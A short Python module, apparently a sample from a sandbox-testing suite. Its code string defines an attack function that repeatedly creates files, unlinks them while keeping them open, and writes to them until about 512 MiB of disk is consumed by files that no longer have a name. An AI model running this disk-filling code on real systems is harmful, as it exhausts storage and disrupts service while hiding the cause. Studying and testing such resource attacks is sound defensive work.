"""Fills the disk with open files that have no name any more."""

GOES_FOR = "bomb"
SOURCE = """
import os

def attack(facts):
    def fill():
        kept, taken = [], 0
        while taken < 2**29:
            kept.append(os.open("gone", os.O_CREAT | os.O_RDWR))
            os.unlink("gone")
            for _ in range(4):
                taken += os.write(kept[-1], bytes(2**20))
    return tried(unseen=fill)
"""
